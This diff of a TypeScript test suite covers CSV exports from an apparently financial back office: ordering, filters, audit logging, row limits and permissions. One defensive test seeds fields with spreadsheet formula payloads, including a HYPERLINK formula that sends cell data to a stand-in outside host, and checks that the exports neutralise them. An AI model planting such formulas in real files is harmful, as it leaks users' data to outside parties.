@@ -14,7 +14,7 @@ import { seedBackOffice } from "../../apps/server/src/commands/seeding/seed-back
 let test: TestApp;
 let owner: Sql;
 
-/** What a spreadsheet would run. */
+/** Texts that a spreadsheet would run as formulas. */
 const formulas = [
   '=HYPERLINK("https://elsewhere.example?"&A1)',
   "+1+1",
@@ -32,7 +32,7 @@ beforeAll(async () => {
     seed: 3,
     now: new Date("2026-11-01T12:00:00Z"),
     users: 60,
-    // More than are read at once.
+    // More rows than one read.
     deposits: 560,
     withdrawals: 90,
     hashedPassword: "-",
@@ -44,7 +44,7 @@ afterAll(async () => {
   await test.close();
 });
 
-const fileOf = async (path: string): Promise<{ answer: TestAnswer; titles: string[]; rows: string[][] }> => {
+const readExport = async (path: string): Promise<{ answer: TestAnswer; titles: string[]; rows: string[][] }> => {
   const answer = await test.admin.call("GET", path);
   if (answer.status !== 200) throw new Error(`${path}: ${answer.status} ${answer.text}`);
   const [titles = [], ...rows] = cellsOf(answer.text);
@@ -58,16 +58,16 @@ const column = ({ titles, rows }: { titles: string[]; rows: string[][] }, title:
   return rows.map((row) => row[place] ?? "");
 };
 
-const exportsOf = async (table: string): Promise<AuditEvent[]> =>
+const listExportEvents = async (table: string): Promise<AuditEvent[]> =>
   (await pageOf<AuditEvent>(test.admin, `/api/admin/audit?action=${table}.export&limit=200`)).items;
 
-describe("files of the back office", () => {
+describe("exports of the back office", () => {
   it.each(["users", "deposits", "withdrawals", "verifications"])(
-    "%s have every row of the list in its order, to be saved and kept nowhere else",
+    "of %s have every row of the list in its order, as a download that is not cached",
     async (table) => {
       for (const sort of ["-createdAt", table === "users" ? "name" : "user"]) {
         const { onwards } = await walkTable<{ id: string }>(test.admin, `/api/admin/${table}?sort=${sort}&limit=200`);
-        const file = await fileOf(`/api/admin/${table}.csv?sort=${sort}`);
+        const file = await readExport(`/api/admin/${table}.csv?sort=${sort}`);
         expect(column(file, "ID")).toEqual(onwards.flatMap(({ items }) => items.map(({ id }) => id)));
         const day = new Date().toISOString().slice(0, 10);
         expect(file.answer.headers).toMatchObject({
@@ -80,10 +80,10 @@ describe("files of the back office", () => {
     },
   );
 
-  it("hold the list's own figures, plain, and times in UTC", async () => {
+  it("have the figures of the list as plain numbers, and times in UTC", async () => {
     const deposits = (await walkTable<AdminDeposit>(test.admin, "/api/admin/deposits?limit=200")).onwards;
     const listed = deposits.flatMap(({ items }) => items);
-    const file = await fileOf("/api/admin/deposits.csv");
+    const file = await readExport("/api/admin/deposits.csv");
     expect(column(file, "Amount (USD)")).toEqual(listed.map(({ amount }) => amount));
     expect(column(file, "Received (USD)")).toEqual(listed.map(({ receivedAmount }) => receivedAmount ?? ""));
     expect(column(file, "Started (UTC)")).toEqual(listed.map(({ createdAt }) => createdAt));
@@ -93,32 +93,32 @@ describe("files of the back office", () => {
 
     const users = (await walkTable<AdminUser>(test.admin, "/api/admin/users?limit=200")).onwards;
     const people = users.flatMap(({ items }) => items);
-    const userFile = await fileOf("/api/admin/users.csv");
+    const userFile = await readExport("/api/admin/users.csv");
     expect(column(userFile, "Balance (USD)")).toEqual(people.map(({ account }) => account.balance));
     expect(column(userFile, "Own money in bots (USD)")).toEqual(people.map(({ account }) => account.totalInvested));
     expect(column(userFile, "Last signed in (UTC)")).toEqual(people.map(({ lastLoginAt }) => lastLoginAt ?? ""));
 
     const withdrawals = (await pageOf<AdminWithdrawal>(test.admin, "/api/admin/withdrawals?limit=200")).items;
-    const withdrawalFile = await fileOf("/api/admin/withdrawals.csv");
+    const withdrawalFile = await readExport("/api/admin/withdrawals.csv");
     const shown = column(withdrawalFile, "Destination");
     expect(shown).toEqual(withdrawals.map(({ destination }) => destination));
 
     const documents = (await pageOf<AdminVerification>(test.admin, "/api/admin/verifications?limit=200")).items;
-    const documentFile = await fileOf("/api/admin/verifications.csv");
+    const documentFile = await readExport("/api/admin/verifications.csv");
     expect(column(documentFile, "Document number")).toEqual(documents.map(({ documentNumber }) => documentNumber));
     expect(column(documentFile, "Reviewed by")).toEqual(documents.map(({ reviewedBy }) => reviewedBy?.email ?? ""));
   });
 
-  it("have only what the filters leave", async () => {
+  it("apply the filters", async () => {
     const address = "status=failed&search=a&sort=amount";
     const { onwards } = await walkTable<AdminDeposit>(test.admin, `/api/admin/deposits?${address}&limit=200`);
     const ids = onwards.flatMap(({ items }) => items.map(({ id }) => id));
     expect(ids.length).toBeGreaterThan(3);
-    expect(column(await fileOf(`/api/admin/deposits.csv?${address}`), "ID")).toEqual(ids);
-    expect((await fileOf("/api/admin/deposits.csv?search=no+such+text")).rows).toEqual([]);
+    expect(column(await readExport(`/api/admin/deposits.csv?${address}`), "ID")).toEqual(ids);
+    expect((await readExport("/api/admin/deposits.csv?search=no+such+text")).rows).toEqual([]);
   });
 
-  it("never hold anything that a spreadsheet would run, whoever has written it", async () => {
+  it("never have a text that a spreadsheet would run as a formula", async () => {
     const investor = await test.funded("5000");
     for (const formula of formulas) {
       const asked = await investor.call("POST", "/api/user/withdrawals", {
@@ -134,27 +134,27 @@ describe("files of the back office", () => {
     }
     await owner`update users set first_name = ${formulas[0]}, last_name = ${formulas[3]}, phone = '+254712345678'
       where id = ${investor.userId}`;
-    const withdrawals = await fileOf(`/api/admin/withdrawals.csv?user=${investor.userId}&sort=createdAt`);
+    const withdrawals = await readExport(`/api/admin/withdrawals.csv?user=${investor.userId}&sort=createdAt`);
     const trimmed = formulas.map((formula) => formula.trim());
     expect(column(withdrawals, "Bank")).toEqual(trimmed.map((formula) => `'${formula}`));
     expect(column(withdrawals, "Note")).toEqual(trimmed.map((formula) => `'${formula}`));
     expect(column(withdrawals, "Account name")).toEqual(trimmed.map((formula) => `'${formula}, "quoted"\r\nand on`));
     expect(new Set(column(withdrawals, "Investor"))).toEqual(new Set([`'${formulas[0]} ${formulas[3]}`]));
-    const users = await fileOf(`/api/admin/users.csv?search=${encodeURIComponent(investor.email)}`);
+    const users = await readExport(`/api/admin/users.csv?search=${encodeURIComponent(investor.email)}`);
     expect(column(users, "First name")).toEqual([`'${formulas[0]}`]);
     expect(column(users, "Phone")).toEqual(["'+254712345678"]);
-    for (const file of [withdrawals, users, await fileOf("/api/admin/deposits.csv")]) {
+    for (const file of [withdrawals, users, await readExport("/api/admin/deposits.csv")]) {
       const cells = file.rows.flat().filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell));
       expect(cells.filter((cell) => /^[\s\0]*[=+\-@\t\r\n\0＝＋－＠]/u.test(cell))).toEqual([]);
     }
   });
 
-  it("are in the audit log, with who took them, the filters and how many rows", async () => {
-    const before = (await exportsOf("users")).length;
-    const file = await fileOf("/api/admin/users.csv?search=a&sort=-balance");
-    const [entry] = await exportsOf("users");
-    expect(await exportsOf("users")).toHaveLength(before + 1);
-    // What was searched for may be somebody's name, which has to go with them.
+  it("are in the audit log with the administrator, the filters and the number of rows", async () => {
+    const before = (await listExportEvents("users")).length;
+    const file = await readExport("/api/admin/users.csv?search=a&sort=-balance");
+    const [entry] = await listExportEvents("users");
+    expect(await listExportEvents("users")).toHaveLength(before + 1);
+    // A search may be a person's name, which must not stay in the log after a deletion.
     expect(entry).toMatchObject({
       actorId: test.admin.userId,
       actor: { email: "admin@wazi.local" },
@@ -165,7 +165,7 @@ describe("files of the back office", () => {
     });
   });
 
-  it("end where a file is full, and say so", async () => {
+  it("end at the row limit and say so", async () => {
     const deps = { sql: test.sql, now: () => new Date("2026-11-21T23:59:59Z") };
     const [admin] = await owner<{ id: string }[]>`select id from users where is_admin`;
     const source = buildDepositTable(test.sql, { sort: "amount" });
@@ -187,7 +187,7 @@ describe("files of the back office", () => {
       );
       expect(file.name).toBe("wazi-deposits-2026-11-21.csv");
     }
-    expect((await exportsOf("deposits")).slice(0, 4).map(({ after }) => after?.["rows"])).toEqual([
+    expect((await listExportEvents("deposits")).slice(0, 4).map(({ after }) => after?.["rows"])).toEqual([
       total,
       total,
       505,
@@ -196,7 +196,7 @@ describe("files of the back office", () => {
   });
 });
 
-describe("a file", () => {
+describe("an export", () => {
   const piecesOf = async (query: object): Promise<AsyncGenerator<string>> => {
     const deps = { sql: test.sql, now: () => new Date() };
     const [admin] = await owner<{ id: string }[]>`select id from users where is_admin`;
@@ -215,7 +215,7 @@ describe("a file", () => {
     return cellsOf(`\ufeff${text}`).map(([id]) => id ?? "");
   };
 
-  it("searches its table once, and never again for what follows", async () => {
+  it("searches its table once for all rows", async () => {
     const pieces = await piecesOf({ search: "a" });
     await pieces.next();
     const { items } = await pageOf<AdminWithdrawal>(
@@ -225,7 +225,7 @@ describe("a file", () => {
     expect(await idsOf(pieces)).toEqual(items.map(({ id }) => id));
   });
 
-  it("has nothing that comes while it is read, and leaves out what goes or no longer fits the filters", async () => {
+  it("has no rows that are added while it runs, and leaves out rows that are deleted or no longer match", async () => {
     const listed = "/api/admin/withdrawals?status=completed&sort=amount&limit=200";
     const before = (await pageOf<AdminWithdrawal>(test.admin, listed)).items.map(({ id }) => id);
     const pieces = await piecesOf({ status: "completed" });
@@ -238,10 +238,10 @@ describe("a file", () => {
   });
 });
 
-describe("who may take a file", () => {
+describe("permission to export", () => {
   const files = ["users", "deposits", "withdrawals", "verifications"].map((table) => `/api/admin/${table}.csv`);
 
-  it("is an administrator of any role, and nobody else", async () => {
+  it("has every administrator role and no other user", async () => {
     const investor = await test.signUp();
     const [admin] = await owner<{ id: string }[]>`select id from users where is_admin`;
     for (const role of ["read-only", "money", "full"]) {
@@ -256,7 +256,7 @@ describe("who may take a file", () => {
     expect(await owner`select from audit_log where action like '%.export'`).toHaveLength(taken.length);
   });
 
-  it("is not another site's page, whose link would leave its trace in the audit log", async () => {
+  it("is refused to links on other sites, which would write to the audit log", async () => {
     const taken = await owner`select from audit_log where action like '%.export'`;
     for (const file of files) {
       const answer = await test.admin.call("GET", file, undefined, { "sec-fetch-site": "cross-site" });
@@ -266,7 +266,7 @@ describe("who may take a file", () => {
   });
 
   it.each(["limit=5", "cursor=a", "sort=status", "format=xlsx", `user=${randomUUID()}x`])(
-    "gets a 400 for ?%s, and no file",
+    "does not include the unknown parameter ?%s: 400",
     async (query) => {
       for (const file of files) {
         const answer = await test.admin.call("GET", `${file}?${query}`);
